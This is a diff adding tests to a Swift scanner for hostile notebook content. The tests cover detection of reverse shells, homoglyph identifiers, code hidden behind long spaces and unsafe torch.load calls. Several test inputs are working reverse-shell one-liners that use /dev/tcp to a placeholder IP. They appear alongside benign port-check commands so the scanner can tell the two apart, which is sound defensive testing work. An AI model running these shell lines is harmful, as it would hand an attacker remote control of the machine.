@@ -58,6 +58,19 @@ struct NotebookTests {
         #expect(findings(notebook(source)).filter { $0.severity > .info }.isEmpty, "\(findings(notebook(source)))")
     }
 
+    @Test(
+        "A shell on a connection is one, a look whether a port is open is none",
+        arguments: [
+            ("!bash -i >& /dev/tcp/1.2.3.4/80 0>&1", true), ("!echo > /dev/null; sh < /dev/tcp/1.2.3.4/80", true),
+            ("!echo > /dev/tcp/1.2.3.4/80; sh < /dev/tcp/1.2.3.4/80", true),
+            ("!exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | sh", true),
+            ("!timeout 3 bash -c 'echo > /dev/tcp/127.0.0.1/80' 2>&1 && echo ok", false),
+            ("!until (: > /dev/tcp/db/5432); do sleep 1; done", false),
+        ])
+    func sockets(_ command: String, _ isShell: Bool) {
+        #expect(findings(notebook(command)).contains { $0.ruleID == "CORDON-NBK-001" } == isShell)
+    }
+
     @Test("Hidden cells count where they act")
     func hidden() {
         let hidden = #"{"jupyter": {"source_hidden": true}}"#
@@ -93,6 +106,37 @@ struct NotebookTests {
             "x = 1" + String(repeating: " ", count: 200) + "; import os",
         ])
     func characters(_ source: String) { #expect(findings(notebook(source)).contains { $0.ruleID == "CORDON-NBK-004" }) }
+
+    @Test("Long runs of blanks end in time", arguments: ["\r", " ", "\t", "\r ", " \r\t"])
+    func blanks(_ piece: String) {
+        let text = "x = 1\n" + String(repeating: piece, count: 1_000_000) + "y"
+        #expect(Scanner().scan(bytes: Array(text.utf8), name: "a.py").entries.count == 1)
+    }
+
+    @Test("Whether only weights are loaded may be decided elsewhere")
+    func decidedElsewhere() {
+        let source = "import torch\ndef f(x, safe=True):\n    torch.load(x, weights_only=safe)"
+        #expect(findings(notebook(source)).map(\.severity) == [.low])
+    }
+
+    @Test(
+        "Alphabets may mix in texts, over lines as well, not in names",
+        arguments: [
+            ("x = \"\"\"\na\u{0432}\n\"\"\"\ny = 1", false), ("x = 'a\\'a\u{0432}'", false),
+            ("x = \"\"\"\n\"\"\"\na\u{0432} = 1", true), ("x = '\na\u{0432} = 1", true),
+            ("# it's\na\u{0432} = 1", true),
+        ])
+    func alphabets(_ source: String, _ isFound: Bool) {
+        #expect(findings(notebook(source)).contains { $0.ruleID == "CORDON-NBK-004" } == isFound)
+    }
+
+    @Test(
+        "Columns of numbers that are lined up are no hidden code, calls behind spaces are",
+        arguments: [("-x / 2, 0]", Severity.low), ("f(x)]", .high), ("0]; y = 1", .high)])
+    func linedUp(_ rest: String, _ severity: Severity) {
+        let source = "m = [1," + String(repeating: " ", count: 190) + rest
+        #expect(findings(notebook(source)).first { $0.ruleID == "CORDON-NBK-004" }?.severity == severity)
+    }
 
     @Test(
         "Old formats, lone texts and missing keys are read",
